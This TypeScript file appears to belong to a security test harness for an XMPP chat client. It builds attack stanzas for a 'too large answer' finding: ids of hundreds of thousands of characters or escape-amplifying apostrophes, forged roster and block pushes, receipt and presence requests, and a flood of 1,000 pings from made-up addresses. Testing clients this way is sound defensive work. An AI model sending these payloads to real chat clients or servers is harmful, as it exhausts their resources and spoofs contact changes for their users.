/** Attack class "an answer that is too large" (finding 2): our answer repeats the id of the request. */
import { CROWD } from "../../peers/servers/crowd.ts";
import type { Attack, Scene } from "../attack.ts";
import { id, toVictim } from "./xml.ts";

/** Hostile stanza ids. An apostrophe takes one character in the request and six in the answer. */
const ids = {
  "an id of 230,000 characters": () => "a".repeat(230_000),
  "an id of 50,000 apostrophes": () => "'".repeat(50_000),
  "an id of 30,000 quotes": () => "&quot;".repeat(30_000),
  "an id of 40,000 ampersands": () => "&amp;".repeat(40_000),
};
const LONG = ids["an id of 230,000 characters"];

const requests = {
  ping: `<ping xmlns="urn:xmpp:ping"/>`,
  "disco#info": `<query xmlns="http://jabber.org/protocol/disco#info"/>`,
  "disco#items": `<query xmlns="http://jabber.org/protocol/disco#items"/>`,
  time: `<time xmlns="urn:xmpp:time"/>`,
  version: `<query xmlns="jabber:iq:version"/>`,
  "last activity": `<query xmlns="jabber:iq:last"/>`,
  vCard: `<vCard xmlns="vcard-temp"/>`,
  "unknown namespace": `<query xmlns="urn:evil"/>`,
  "no child": "",
  jingle: `<jingle xmlns="urn:xmpp:jingle:1" action="session-initiate" sid="1"/>`,
  "forged roster push": `<query xmlns="jabber:iq:roster"><item jid="evil@localhost" subscription="both"/></query>`,
  "forged block push": `<block xmlns="urn:xmpp:blocking"><item jid="bob@localhost"/></block>`,
};
const isSet = (kind: string): boolean => /jingle|push/.test(kind);

const ask = ({ victim, write }: Scene, kind: keyof typeof requests, name: string, to = victim.full): void =>
  write(`<iq type="${isSet(kind) ? "set" : "get"}" id="${name}" to="${to}">${requests[kind]}</iq>`);

export const answers: Attack[] = [
  ...(Object.keys(requests) as (keyof typeof requests)[]).map((kind): Attack => ({
    name: `${kind} with an id of 230,000 characters`,
    where: "IQ",
    send: (scene) => ask(scene, kind, LONG()),
  })),
  ...Object.entries(ids)
    .slice(1)
    .map(([what, name]): Attack => ({
      name: `ping and time with ${what}`,
      where: "IQ",
      send: (scene) => {
        ask(scene, "ping", name());
        ask(scene, "time", name());
      },
    })),
  ...(["ping", "disco#info", "version"] as const).map((kind): Attack => ({
    name: `${kind} through a room with an id of 230,000 characters`,
    where: "room message",
    send: (scene) => ask(scene, kind, LONG(), `${scene.room}/${scene.victim.nickname}`),
  })),
  {
    name: "disco#info with a node of 200,000 characters",
    where: "IQ",
    send: ({ victim, write }) =>
      write(
        `<iq type="get" id="${id()}" to="${victim.full}"><query xmlns="http://jabber.org/protocol/disco#info" node="${"n".repeat(
          200_000,
        )}"/></iq>`,
      ),
  },
  ...(["a".repeat(200_000), "'".repeat(50_000)] as const).map((name, at): Attack => ({
    name: `a message that asks for a receipt, with an id of ${["200,000 characters", "50,000 apostrophes"][at]}`,
    where: "direct message",
    send: (scene) =>
      toVictim(
        scene,
        `<body>hello</body><request xmlns="urn:xmpp:receipts"/><markable xmlns="urn:xmpp:chat-markers:0"/>`,
        `type="chat" id="${name}"`,
      ),
  })),
  {
    name: "a presence and a subscription request with an id of 200,000 characters",
    where: "presence",
    send: ({ victim, write }) => {
      write(`<presence to="${victim.full}" id="${"a".repeat(200_000)}"/>`);
      write(`<presence to="${victim.jid}" type="subscribe" id="${"a".repeat(200_000)}"/>`);
    },
  },
  {
    name: "1,000 pings of an address that is made up each time",
    where: "component",
    send: ({ component, victim }) => {
      for (let count = 0; count < 1_000; count++) {
        component(
          `<iq type="get" from="evil${count}@${CROWD}/x" to="${victim.full}" id="p${count}">${requests.ping}</iq>`,
        );
      }
    },
  },
  {
    name: "an IQ from the component with an id of 400,000 characters",
    where: "component",
    send: ({ component, victim }) =>
      component(
        `<iq type="get" from="evil@${CROWD}/x" to="${victim.full}" id="${"a".repeat(400_000)}">${requests.ping}</iq>`,
      ),
  },
];
